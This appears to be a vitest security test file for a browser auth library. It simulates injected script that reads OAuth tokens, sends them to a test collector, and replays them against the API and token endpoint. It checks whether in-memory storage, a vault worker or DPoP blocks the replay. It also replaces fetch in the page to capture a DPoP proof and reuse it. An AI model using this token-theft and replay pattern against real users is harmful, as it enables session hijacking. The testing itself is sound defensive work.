import { describe, expect, it, onTestFinished } from "vitest";
import { type Attempt, startCollector, useElsewhere } from "./attack/elsewhere.js";
import { type Loot, lieInWait, sendAway } from "./attack/injected.js";
import type { AppOptions } from "./harness/page.js";
import { useBrowser } from "./harness/scenario.js";

const browser = useBrowser();

type Place = keyof Loot;

/** A way to keep tokens, and what it is worth to script that has got into the page. */
interface Mode {
  readonly page: Partial<AppOptions>;
  /** Whether the user signed in with an earlier release of the app, which had no DPoP. */
  readonly signedInBefore?: boolean;
  /** The places where script finds each token. */
  readonly finds: { readonly refreshToken: readonly Place[]; readonly accessToken: readonly Place[] };
  /** Those that accept something of what was stolen. */
  readonly accepts: readonly Attempt["at"][];
}

const modes: Record<string, Mode> = {
  "without DPoP, the API and the token endpoint accept elsewhere what script has copied": {
    page: {},
    finds: { refreshToken: ["indexedDB", "requests"], accessToken: ["indexedDB", "requests"] },
    accepts: ["the API", "the token endpoint"],
  },
  "in memory mode, script finds nothing in storage, and a replaced fetch sees both tokens, which are accepted elsewhere": {
    page: { inMemory: true },
    finds: { refreshToken: ["requests"], accessToken: ["messages", "requests"] },
    accepts: ["the API", "the token endpoint"],
  },
  "with a vault, script finds no refresh token anywhere, and the API accepts elsewhere the access token": {
    page: { vault: { worker: "/vault-worker.js" } },
    finds: { refreshToken: [], accessToken: ["indexedDB", "requests"] },
    accepts: ["the API"],
  },
  "with DPoP, script copies both tokens, and nobody accepts them elsewhere": {
    page: { dpop: true },
    finds: { refreshToken: ["indexedDB", "requests"], accessToken: ["indexedDB", "requests"] },
    accepts: [],
  },
  "with DPoP in memory mode, a replaced fetch sees both tokens, and nobody accepts them elsewhere": {
    page: { dpop: true, inMemory: true },
    finds: { refreshToken: ["requests"], accessToken: ["messages", "requests"] },
    accepts: [],
  },
  "with DPoP in an app whose user signed in before it, servers accept the tokens elsewhere until the next sign-in": {
    page: { dpop: true },
    signedInBefore: true,
    finds: { refreshToken: ["indexedDB", "requests"], accessToken: ["indexedDB", "requests"] },
    accepts: ["the API", "the token endpoint"],
  },
};

describe("script that has got into a page copies all that it can read", () => {
  it.each(Object.entries(modes))("%s", async (_, { page, signedInBefore, finds, accepts }) => {
    const collector = await startCollector();
    onTestFinished(() => collector.close());
    // Without rotation, only the key decides: a refresh token is not refused for the reason that it was used before.
    const site = await browser.site({ accessTokenSeconds: 600, dpop: true, rotate: false, session: { lead: 5000 } });
    const first = await site.openAt("", signedInBefore ? {} : page);
    const tokens = await site.server.issueTokens({ jkt: await first.run(() => app.loginKey()) });
    await first.run((tokens) => app.session.signIn(tokens), tokens);
    const second = await site.openAt("", page);
    const owner = signedInBefore ? second : first;
    if (signedInBefore) await first.close();

    await owner.run(lieInWait);
    const call = () => owner.run(async () => (await app.session.fetch("/api/me")).status);
    const refresh = () => owner.run(() => app.session.refresh());
    expect([await call(), await refresh(), await call()]).toEqual([200, "refreshed", 200]);
    const accessToken = await owner.run(() => app.session.getToken());
    await owner.run(sendAway, collector.url);

    const loot = await collector.loot;
    const placesOf = (token: string | null) =>
      Object.entries(loot).flatMap(([place, content]) => (JSON.stringify(content).includes(`${token}`) ? place : []));
    expect({ refreshToken: placesOf(tokens.refresh_token), accessToken: placesOf(accessToken) }).toEqual(finds);

    const attempts = await useElsewhere(loot, site.server);
    const hows = page.dpop ? ["as it is", "with a stolen proof", "with another key"] : ["as it is", "with another key"];
    expect([...new Set(attempts.map(({ how }) => how))].sort()).toEqual(hows);
    const accepted = attempts.filter(({ status }) => status === 200);
    expect([...new Set(accepted.map(({ at }) => at))].sort(), JSON.stringify(accepted)).toEqual(accepts);
    // The owner's session was not ended, so the refusals were about the key.
    expect([await call(), await refresh(), await call()]).toEqual([200, "refreshed", 200]);
  });

  it("with DPoP, a proof that a replaced fetch keeps to itself is good elsewhere for that one call", async () => {
    const site = await browser.site({ accessTokenSeconds: 600, dpop: true, session: { lead: 5000 } });
    const owner = await site.openAt("", { dpop: true });
    await site.signIn(owner, "ada");
    const [url, headers] = await owner.run(async () => {
      let kept: [string, [string, string][]] = ["", []];
      globalThis.fetch = async (input, init) => {
        const { url, headers } = new Request(input, init);
        kept = [url, [...headers]];
        throw new TypeError("no network");
      };
      await app.session.fetch("/api/me").catch(() => {});
      return kept;
    });
    const use = async (address: string) => (await fetch(address, { headers })).status;
    expect([await use(`${site.url}/api/other`), await use(url), await use(url)]).toEqual([401, 200, 401]);
  });
});
